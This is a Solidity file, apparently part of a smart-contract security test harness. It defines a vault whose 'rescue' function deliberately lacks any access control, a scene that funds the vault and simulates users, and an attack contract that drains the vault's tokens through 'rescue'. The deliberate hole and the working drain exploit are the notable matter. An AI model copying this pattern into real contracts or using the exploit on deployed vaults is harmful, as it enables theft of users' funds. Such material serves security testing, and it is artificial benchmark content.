// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// A sweep that asks nobody who he is.
contract SweepVault {
    IERC20 public immutable asset;
    mapping(address => uint256) public balanceOf;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        asset.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function rescue(IERC20 token, address to, uint256 amount) external {
        token.transfer(to, amount);
    }
}

contract UnprotectedWithdrawScene is Scene {
    Token public usd;
    SweepVault public vault;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = new SweepVault(IERC20(address(usd)));
        usd.mint(address(vault), 2_500_000e18);
        _protect(address(vault));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(vault));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = vault.balanceOf(who);
        if (held > 0 && dice >> 200 & 1 == 0) return (address(vault), 0, abi.encodeCall(SweepVault.withdraw, (held)));
        return (address(vault), 0, abi.encodeCall(SweepVault.deposit, (_amount(dice, 100e18, 20_000e18))));
    }
}

contract UnprotectedWithdrawAttack is Attack {
    SweepVault private immutable vault;

    constructor(UnprotectedWithdrawScene scene) Attack(scene) {
        vault = scene.vault();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        vault.rescue(loot0, address(this), loot0.balanceOf(address(vault)) / (count - index));
    }
}
